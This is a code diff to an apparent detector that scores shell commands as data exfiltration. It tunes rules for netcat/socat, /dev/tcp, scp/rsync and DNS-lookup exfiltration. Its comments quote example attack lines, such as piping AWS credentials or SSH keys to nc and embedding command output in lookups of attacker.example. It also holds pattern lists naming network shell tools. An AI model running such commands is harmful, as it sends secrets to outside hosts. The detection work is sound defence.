@@ -7,7 +7,7 @@ import {
   isPublicAddress,
   urlHost,
 } from './exfiltration-hosts.js';
-import type { PayloadRule } from './payload-rule.js';
+import { lineAround, type PayloadRule } from './payload-rule.js';
 import {
   commandName,
   isSecretVariableName,
@@ -21,6 +21,7 @@ import {
   createPipelineReader,
   type PipelineReader,
   readScript,
+  readShellCommand,
   SHELL_WORD_PATTERNS,
   type ShellWord,
   substitutionSpans,
@@ -47,10 +48,9 @@ interface AnchoredCommand {
 
 /** The command names each rule anchors on; `after` stops at the next word naming one of them. */
 const TRANSFER_NAMES = new Set(['curl', 'wget']);
-const SOCKET_NAMES = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
+const SOCKET_NAMES = new Set(['nc', 'ncat', 'netcat', 'socat']);
 const COPY_NAMES = new Set(['scp', 'rsync']);
 const WEB_CMDLET_NAMES = new Set(['invoke-webrequest', 'invoke-restmethod', 'iwr', 'irm']);
-const LOOKUP_NAMES = new Set(['nslookup', 'dig', 'host', 'drill', 'ping', 'resolve-dnsname']);
 
 /**
  * The command at a rule's anchor. `after` ends at the next word naming a command of the same rule
@@ -117,8 +117,15 @@ const HOST_END = /[/?#:]/;
 const COPY_URL = /^(?:rsync|scp|sftp):\/\//i;
 const SOCAT_FILE = /^(?:file|open|gopen):/i;
 
+/** A command substitution right before a dot and a label character: `$(whoami).x`, `` `id`.x ``, `"$(id)".x`. */
+const LABEL_SUBSTITUTION = /\$\([^()\n]{1,200}\)"?\.[A-Za-z0-9]|`[^`\n]{1,200}`"?\.[A-Za-z0-9]/;
+/** The DNS lookup commands, as words followed by whitespace. */
+const LOOKUP_COMMAND = /\b(?:nslookup|dig|host|drill|ping|resolve-dnsname)\s/gi;
+
 /** Suffixes of names that resolve on the local network: looking one up sends nothing out. */
 const LOCAL_NAME = /\.(?:local|lan|home\.arpa|internal|localdomain|localhost|svc|cluster\.local)\.?$/i;
+/** Wildcard DNS services that answer a name with the address written in it (`10.0.0.5.nip.io`). */
+const ADDRESS_NAME = /\.(?:nip\.io|sslip\.io|xip\.io)\.?$/i;
 
 /**
  * The score for a command substitution used as a DNS label (`$(whoami).x.example`,
@@ -135,7 +142,9 @@ function labelSubstitutionScore(value: string): number | undefined {
     if (PAST_HOST.test(value.slice(offset, span.start))) continue;
     const rest = value.slice(span.end);
     const stop = rest.search(HOST_END);
-    if (LOCAL_NAME.test(stop === -1 ? rest : rest.slice(0, stop))) continue;
+    const name = stop === -1 ? rest : rest.slice(0, stop);
+    // `$(minikube ip).nip.io`: the label is an address by design of the service.
+    if (LOCAL_NAME.test(name) || ADDRESS_NAME.test(name)) continue;
     const reads = readScript(span.inner).some((command) => readsSecrets(command));
     return reads ? 0.9 : 0.8;
   }
@@ -223,10 +232,17 @@ function remotePath(operand: string): string | undefined {
   return operand.slice(colon + 1);
 }
 
+/** `.env`, `.env.production`: an application's settings file. */
+function isEnvironmentFile(path: string): boolean {
+  const name = path.slice(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1).toLowerCase();
+  return name === '.env' || name.startsWith('.env.');
+}
+
 /**
  * Score for `scp`/`rsync` operands: a local sensitive source copied to a remote destination. Copying
  * keys into the same kind of folder on the other side (`rsync -a ~/.ssh/ newlaptop:~/.ssh/`) is how
- * people move to a new machine: kept below the balanced threshold.
+ * people move to a new machine, and copying an app's `.env` to its server is how many deploy: both kept
+ * below the balanced threshold.
  */
 function copyScore(after: readonly ShellWord[]): number | undefined {
   const operands: string[] = [];
@@ -251,7 +267,7 @@ function copyScore(after: readonly ShellWord[]): number | undefined {
     if (remotePath(source) !== undefined || !isSensitivePath(source)) continue;
     const folder = secretFolderOf(source);
     const sameFolder = folder !== undefined && destination.toLowerCase().includes(folder.slice(1));
-    score = best([score, sameFolder ? 0.4 : 0.8]);
+    score = best([score, sameFolder || isEnvironmentFile(source) ? 0.4 : 0.8]);
   }
   return score;
 }
@@ -288,7 +304,6 @@ const socketReader = createPipelineReader();
 const devTcpReader = createPipelineReader();
 const copyReader = createPipelineReader();
 const cmdletReader = createPipelineReader();
-const lookupReader = createPipelineReader();
 
 /** Shell exfiltration rules. */
 export const SHELL_EXFILTRATION_RULES: readonly PayloadRule[] = [
@@ -369,11 +384,12 @@ export const SHELL_EXFILTRATION_RULES: readonly PayloadRule[] = [
     // `cat ~/.aws/credentials | nc x.example 4444`, `nc host 4444 < ~/.ssh/id_rsa`, `printenv | ncat …`,
     // `socat FILE:/etc/shadow TCP:host:443`: a raw socket fed with secrets. `echo hi | nc localhost 9000`
     // and `nc -zv host 22` have no secret source.
-    pattern: /\b(?:nc|ncat|netcat|socat|telnet)\s/,
+    pattern: /\b(?:nc|ncat|netcat|socat)\s/,
     score: 0.92,
-    hints: ['nc', 'socat', 'telnet'],
+    hints: ['nc', 'socat'],
     requires: ['|', '<', ':'],
-    spaceAfter: ['nc', 'cat', 'socat', 'telnet'],
+    // Every alternative ends in `nc` or `cat` followed by whitespace.
+    spaceAfter: ['nc', 'cat'],
     confirm: ({ text, start }) => {
       const anchored = commandAt({ reader: socketReader, text, start, names: SOCKET_NAMES });
       if (inputHoldsSecrets(anchored) || anchored.before.some(echoesSecretVariable)) return 0.92;
@@ -391,7 +407,8 @@ export const SHELL_EXFILTRATION_RULES: readonly PayloadRule[] = [
     // fed with secrets (the reverse-shell rule flags the redirection itself).
     pattern: /\/dev\/(?:tcp|udp)\//,
     score: 0.92,
-    hints: ['/dev/tcp', '/dev/udp'],
+    // The reverse-shell rules' hint word: found by the one hint pass at no extra cost.
+    hints: ['/dev/'],
     confirm: ({ text, start }) => {
       const anchored = commandAt({ reader: devTcpReader, text, start, names: SOCKET_NAMES });
       const own = anchored.command.filter((word) => word.start !== start);
@@ -445,18 +462,27 @@ export const SHELL_EXFILTRATION_RULES: readonly PayloadRule[] = [
     type: 'SHELL_EXFILTRATION',
     // `nslookup $(whoami).x.example`, `dig $(cat /etc/hostname).attacker.example`, `ping -c1 `id`.x.example`:
     // the lookup carries the substitution's output to the domain's name server. `dig $(hostname)` looks
-    // up the machine itself, and `ping $(hostname).local` stays on the local network.
-    pattern: /\b(?:nslookup|dig|host|drill|ping|resolve-dnsname)\s/,
+    // up the machine itself, and `ping $(hostname).local` stays on the local network. Anchored on the
+    // substitution before a dot, tried only at `$(` and backticks: the lookup commands' names (`host`,
+    // `ping`) are common words, and the one hint pass would pay for them on every text.
+    pattern: LABEL_SUBSTITUTION,
     score: 0.8,
     hints: ['$(', '`'],
     requires: ['(', '`'],
-    spaceAfter: ['nslookup', 'dig', 'host', 'drill', 'ping', 'resolve-dnsname'],
-    confirm: ({ text, start }) =>
-      best(
-        commandAt({ reader: lookupReader, text, start, names: LOOKUP_NAMES }).after.map((word) =>
-          labelSubstitutionScore(word.value),
-        ),
-      ),
+    starts: {
+      characters: ['$', '`'],
+      fits: (text, index) => text.charCodeAt(index) === 96 || text.charCodeAt(index + 1) === 40,
+    },
+    confirm: ({ text, start }) => {
+      const { line, lineStart } = lineAround(text, start);
+      let commandStart = -1;
+      for (const match of line.slice(0, start - lineStart).matchAll(LOOKUP_COMMAND))
+        commandStart = match.index;
+      if (commandStart === -1) return undefined;
+      const command = readShellCommand(text, lineStart + commandStart);
+      if (command.end <= start) return undefined;
+      return best(command.words.slice(1).map((word) => labelSubstitutionScore(word.value)));
+    },
   },
 ];
 
@@ -464,6 +490,9 @@ export const SHELL_EXFILTRATION_RULES: readonly PayloadRule[] = [
 export const SHELL_EXFILTRATION_PATTERNS: readonly RegExp[] = [
   ...SHELL_EXFILTRATION_RULES.map((rule) => rule.pattern),
   LOCAL_NAME,
+  ADDRESS_NAME,
+  LABEL_SUBSTITUTION,
+  LOOKUP_COMMAND,
   VARIABLE_REFERENCE,
   EXE_SUFFIX,
   ANY_SCHEME,
